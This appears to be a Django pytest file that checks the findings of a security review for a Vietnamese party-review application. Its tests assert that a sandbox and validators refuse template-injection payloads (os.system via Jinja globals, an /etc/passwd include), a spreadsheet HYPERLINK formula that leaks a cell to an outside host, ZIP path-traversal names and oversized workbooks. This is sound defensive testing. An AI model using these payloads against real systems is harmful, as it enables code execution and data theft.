"""The security review's findings, one test each (issue 11), as an attacker with an
ordinary account would try them on the demo."""

from __future__ import annotations

import io
import os
import subprocess
import zipfile
from datetime import timedelta
from decimal import Decimal
from pathlib import Path, PurePosixPath

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from docx import Document
from openpyxl import load_workbook

from kiemdiem.apps.campaigns.models import Campaign, Milestone, SelfReview
from kiemdiem.apps.campaigns.self_reviews import SelfReviewInput, self_review_save
from kiemdiem.apps.core.errors import ServiceError
from kiemdiem.apps.decisions.models import ClassificationDecision
from kiemdiem.apps.documents import pdf, render
from kiemdiem.apps.documents.models import DocumentTemplate
from kiemdiem.apps.documents.services import document_template_upload
from kiemdiem.apps.dossiers.services import dossier_file_upload
from kiemdiem.apps.members.models import Member
from kiemdiem.apps.organizations.models import PartyOrganization
from kiemdiem.apps.reviews.models import CollectiveReport
from kiemdiem.safefiles import hostile

PWNED = Path("/tmp/kiemdiem-pwned")


def campaign() -> Campaign:
    return Campaign.objects.get(organization__code="DBSNV", year=2026)


def docx_with(text: str) -> bytes:
    doc = Document(str(render.template_path("notification", "qd366-2025")))
    doc.add_paragraph(text)
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


# -- 1. a small workbook that asks for 512 GB ------------------------------------------
def test_1_the_far_cell_workbook_is_refused_by_the_import_page(alice: User) -> None:
    client = Client()
    client.force_login(alice)
    root = PartyOrganization.objects.get(code="DBSNV")
    body = hostile.far_cell("Đảng viên", ["Số thẻ đảng viên", "Họ và tên"])
    assert len(body) < 5_000
    response = client.post(
        "/nhap-du-lieu/",
        {"root": root.pk, "check_only": "1", "file": SimpleUploadedFile("a.xlsx", body)},
        follow=True,
    )
    page = response.content.decode()
    assert response.status_code == 422  # the job's page: invalid, with its problems
    assert "XFD1048576" in page and "vượt giới hạn" in page


def test_1_the_far_cell_scenario_workbook_is_refused_by_the_campaign_page(alice: User) -> None:
    client = Client()
    client.force_login(alice)
    body = hostile.far_cell("Đảng viên", ["id", "name", "organization"])
    response = client.post(
        f"/ke-hoach/{campaign().pk}/kich-ban/", {"file": SimpleUploadedFile("k.xlsx", body)}
    )
    assert response.status_code == 422
    assert "vượt giới hạn" in response.content.decode()


def test_1_rows_past_the_limit_are_refused(alice: User, settings: object) -> None:
    from kiemdiem.apps.imports.reader import read_workbook
    from kiemdiem.safefiles.spreadsheet import Limits

    settings.SPREADSHEET_IMPORT_LIMITS = Limits(max_rows=500)  # type: ignore[attr-defined]
    body = hostile.many_rows("Đảng viên", ["Số thẻ đảng viên", "Họ và tên"], rows=600)
    data, problems = read_workbook(io.BytesIO(body))
    assert not data and "500 dòng" in problems[0].message


# -- 2. a template that runs code -----------------------------------------------------
ATTACKS = (
    "{{ cycler.__init__.__globals__.os.system('touch /tmp/kiemdiem-pwned') }}",
    "{{ head.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''|attr('__class__') }}",
    "{% include '/etc/passwd' %}",
    "{{ range(10**9)|list }}",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_2_a_template_that_reaches_for_code_is_refused_with_the_tag_named(
    demo: object, superuser: User, attack: str
) -> None:
    PWNED.unlink(missing_ok=True)
    with pytest.raises(ServiceError) as refused:
        document_template_upload(
            actor=superuser,
            ruleset="qd366-2025",
            kind="notification",
            upload=SimpleUploadedFile("mau.docx", docx_with(attack)),
        )
    assert "không được phép" in refused.value.message
    assert not PWNED.exists()
    assert not DocumentTemplate.objects.exists()


def test_2_a_template_already_stored_cannot_run_code_either(
    issued: ClassificationDecision, member_a: User
) -> None:
    """Stored before the check existed: the sandbox refuses at render, nothing runs."""
    PWNED.unlink(missing_ok=True)
    DocumentTemplate.objects.create(
        uploaded_by=User.objects.get(username="admin"),
        ruleset="qd366-2025",
        kind="notification",
        name="cu.docx",
        file=SimpleUploadedFile("cu.docx", docx_with(ATTACKS[0])),
    )
    client = Client()
    client.force_login(member_a)
    member = Member.objects.get(user=member_a)
    response = client.get(
        f"/van-ban/{campaign().pk}/notification.docx?doi-tuong=member/M{member.pk}"
    )
    assert response.status_code == 503
    assert "bị chặn" in response.content.decode()
    assert not PWNED.exists()


# -- 3. a 9.5 MB self-review, then its PDF ----------------------------------------------
@pytest.fixture
def open_campaign(demo: object) -> Campaign:
    current = campaign()
    Milestone.objects.filter(campaign=current, code="cell_meeting").update(
        due_on=timezone.localdate() + timedelta(days=20)
    )
    return current


def test_3_a_self_review_past_its_length_is_refused_with_the_field_named(
    open_campaign: Campaign, member_a: User
) -> None:
    member = Member.objects.get(user=member_a)
    with pytest.raises(ServiceError) as refused:
        self_review_save(
            actor=member_a,
            campaign=open_campaign,
            member=member,
            data=SelfReviewInput(strengths="x" * 9_500_000),
        )
    assert refused.value.field == "strengths"
    assert "tối đa 8.000 ký tự" in refused.value.message
    # The page states the limit and the browser holds it.
    client = Client()
    client.force_login(member_a)
    page = client.get(f"/tu-kiem-diem/{open_campaign.pk}/").content.decode()
    assert 'maxlength="8000"' in page and "Tối đa 8.000 ký tự" in page
    # Through the API too: refused, nothing saved.
    from kiemdiem.apps.accounts.tokens import api_token_issue

    _, token = api_token_issue(actor=member_a, user=member_a, name="thử")
    response = Client().put(
        f"/api/campaigns/{open_campaign.pk}/self-review",
        data={"strengths": "y" * 9_000},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "strengths"
    review = SelfReview.objects.filter(campaign=open_campaign, member=member).first()
    assert review is None or not review.strengths.startswith("y" * 100)


def test_3_a_converter_past_its_time_is_killed_with_its_whole_group(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settings: object
) -> None:
    """`soffice` forks `soffice.bin`; killing the parent alone left the child at 97 % CPU."""
    marker = f"kiemdiem-hung-{os.getpid()}"
    fake = tmp_path / "soffice"
    fake.write_text(f"#!/bin/sh\nsh -c 'exec sleep 300 {marker}' &\nexec sleep 300\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    settings.PDF_TIMEOUT = 1  # type: ignore[attr-defined]
    settings.PDF_TIMEOUT_PER_DOCUMENT = 0  # type: ignore[attr-defined]
    with pytest.raises(ServiceError) as refused:
        pdf.pdf_bytes(b"docx")
    assert "quá 1 giây nên đã dừng" in refused.value.message
    left = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True)
    assert left.stdout.strip() == "", "a converter's child outlived the time limit"


def test_3_a_cell_s_letters_are_converted_in_one_start(
    issued: ClassificationDecision, secretary_a: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    starts: list[int] = []

    def fake_convert(documents: dict[str, bytes]) -> dict[str, bytes]:
        starts.append(len(documents))
        return {name: b"%PDF-1.7 " + name.encode() for name in documents}

    monkeypatch.setattr("kiemdiem.apps.documents.views.convert", fake_convert)
    client = Client()
    client.force_login(secretary_a)
    response = client.get(f"/ke-hoach/{campaign().pk}/van-ban/thong-bao/CB-TT.zip")
    assert response.status_code == 200
    names = zipfile.ZipFile(io.BytesIO(response.content)).namelist()
    cell = PartyOrganization.objects.get(code="CB-TT")
    rated = issued.ratings.filter(subject__startswith="member/").values_list("subject", flat=True)  # type: ignore[attr-defined]
    in_cell = [s for s in rated if Member.objects.filter(pk=int(s[8:]), organization=cell).exists()]
    assert starts == [len(names)] and len(names) == len(in_cell) > 1
    assert all(n.endswith(".pdf") for n in names)
    # Another cell's secretary gets nothing of this cell.
    client.force_login(User.objects.create_user("eve"))
    assert client.get(f"/ke-hoach/{campaign().pk}/van-ban/thong-bao/CB-TT.zip").status_code == 403


# -- 4. formulas in exports -----------------------------------------------------------
def test_4_names_that_look_like_formulas_come_out_as_text(alice: User) -> None:
    member = Member.objects.filter(organization__code="CB-TT").first()
    assert member is not None
    member.full_name = '=HYPERLINK("http://ke-xau.example/?d="&B3,"Bấm vào")'
    member.save(update_fields=["full_name"])
    client = Client()
    client.force_login(alice)
    for url in (
        f"/ke-hoach/{campaign().pk}/?xuat=xlsx",
        f"/chi-bo/{campaign().pk}/CB-TT/?xuat=xlsx",
        f"/ke-hoach/{campaign().pk}/kich-ban.xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 200 and response.content.startswith(b"PK"), url
        book = load_workbook(io.BytesIO(response.content))
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        assert any(c.value == member.full_name for c in cells), url


# -- 5. ZIP entries that climb out -----------------------------------------------------
def test_5_dossier_zip_entries_stay_in_their_folder(
    issued: ClassificationDecision, alice: User, tmp_path: Path
) -> None:
    member = Member.objects.filter(organization__code="CB-TT").first()
    assert member is not None
    member.full_name = "../../../../../outside/x"
    member.save(update_fields=["full_name"])
    long_name = "đ" * 300 + ".pdf"
    dossier_file_upload(
        actor=alice,
        campaign=campaign(),
        subject="organization/CB-TT",
        item="party_building_report",
        upload=SimpleUploadedFile(long_name, b"%PDF-1.4 test"),
    )
    client = Client()
    client.force_login(alice)
    body = client.get(f"/ke-hoach/{campaign().pk}/ho-so/CB-TT.zip").content
    archive = zipfile.ZipFile(io.BytesIO(body))
    for name in archive.namelist():
        path = PurePosixPath(name)
        assert not path.is_absolute() and ".." not in path.parts, name
        assert all(len(part) <= 100 for part in path.parts), name
    target = tmp_path / "giai-nen"
    archive.extractall(target)
    for found in tmp_path.rglob("*"):
        assert target in (found, *found.parents), found


# -- 6. drafts and unsubmitted reviews --------------------------------------------------
def test_6_members_do_not_read_an_uncirculated_draft(demo: object, secretary_a: User) -> None:
    report = CollectiveReport.objects.get(
        campaign=campaign(), organization__code="CB-TT", collective__isnull=True
    )
    report.status = CollectiveReport.Status.DRAFT
    report.results = "Nội dung dự thảo bí mật của chi ủy"
    report.save(update_fields=["status", "results"])
    url = f"/chi-bo/{campaign().pk}/CB-TT/bao-cao/"
    client = Client()
    client.force_login(secretary_a)
    assert "Nội dung dự thảo bí mật" in client.get(url).content.decode()
    member = (
        Member.objects.filter(organization__code="CB-TT", user__isnull=False)
        .exclude(user=secretary_a)
        .first()
    )
    assert member is not None and member.user is not None
    client.force_login(member.user)
    page = client.get(url)
    assert page.status_code == 200
    assert "Nội dung dự thảo bí mật" not in page.content.decode()


def test_6_the_secretary_cannot_print_an_unsubmitted_self_review(
    open_campaign: Campaign, secretary_a: User, member_a: User
) -> None:
    member = Member.objects.get(user=member_a)
    SelfReview.objects.filter(campaign=open_campaign, member=member).delete()
    self_review_save(
        actor=member_a,
        campaign=open_campaign,
        member=member,
        data=SelfReviewInput(strengths="Bản nháp chưa nộp"),
    )
    url = f"/van-ban/{open_campaign.pk}/self_review.docx?doi-tuong={member.pk}"
    client = Client()
    client.force_login(secretary_a)
    assert client.get(url).status_code == 403
    client.force_login(member_a)  # the member prints their own draft
    assert client.get(url).status_code == 200
    self_review_save(
        actor=member_a,
        campaign=open_campaign,
        member=member,
        data=SelfReviewInput(
            strengths="Đã nộp",
            shortcomings="Còn chậm",
            direction="Khắc phục",
            commitment="Cam kết",
            general_points=Decimal("25"),
            results_points=Decimal("60"),
            self_rating="GOOD",
        ),
        submit=True,
    )
    client.force_login(secretary_a)
    assert client.get(url).status_code == 200


# -- 7. no traceback -------------------------------------------------------------------
def test_7_malformed_input_gets_a_vietnamese_answer_never_a_traceback(
    demo: object, secretary_a: User
) -> None:
    from kiemdiem.apps.accounts.tokens import api_token_issue

    _, token = api_token_issue(actor=secretary_a, user=secretary_a, name="thử")
    auth = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    client = Client(raise_request_exception=False)
    pk = campaign().pk
    report = f"/api/campaigns/{pk}/cells/CB-TT/report"
    cases = [
        ("put", report, '{"results": "\\ud800"}', 422, "results"),
        ("put", report, '{"results": ' + "9" * 5000 + "}", 400, "JSON"),
        ("put", report, "{không phải json", 400, "JSON"),
        ("put", report, '{"general_points": 99999999999999999999999}', 422, ""),
        ("get", "/api/campaigns/" + "9" * 5000, None, 422, "quá dài"),
        ("get", "/api/history?subject=member/M" + "9" * 5000, None, 422, "quá dài"),
        ("get", f"/api/complaints/{'9' * 25}", None, 422, "quá dài"),
    ]
    for method, url, body, status, said in cases:
        kw = {"data": body, "content_type": "application/json"} if body else {}
        response = getattr(client, method)(url, **kw, **auth)
        text = response.content.decode()
        assert response.status_code == status, (url[:60], text[:200])
        assert "Traceback" not in text and said in text
    client.force_login(secretary_a)
    for url in ("/ke-hoach/" + "9" * 5000 + "/", f"/khieu-nai/{'9' * 30}/"):
        response = client.get(url)
        assert response.status_code == 400 and "quá dài" in response.content.decode()


# -- 8. Swagger UI from a CDN -----------------------------------------------------------
def test_8_the_api_docs_load_nothing_from_outside(demo: object, secretary_a: User) -> None:
    import re

    client = Client()
    client.force_login(secretary_a)
    page = client.get("/api/docs").content.decode()
    links = re.findall(r'(?:src|href)="([^"]+)"', page)
    assert any("swagger-ui-bundle.js" in link for link in links)
    assert all(link.startswith("/") for link in links), links


# -- 9. an adjusted template and a pinned rule set ------------------------------------
def test_9_an_adjusted_template_serves_campaigns_pinned_to_a_version(
    demo: object, superuser: User
) -> None:
    document_template_upload(
        actor=superuser,
        ruleset="qd366-2025",
        kind="notification",
        upload=SimpleUploadedFile("mau.docx", docx_with("Mẫu riêng của tỉnh")),
    )
    pinned = render.template_source("notification", "qd366-2025@1")
    assert not isinstance(pinned, str)  # the adjusted file, not the shipped path
    text = "\n".join(p.text for p in Document(pinned).paragraphs)
    assert "Mẫu riêng của tỉnh" in text
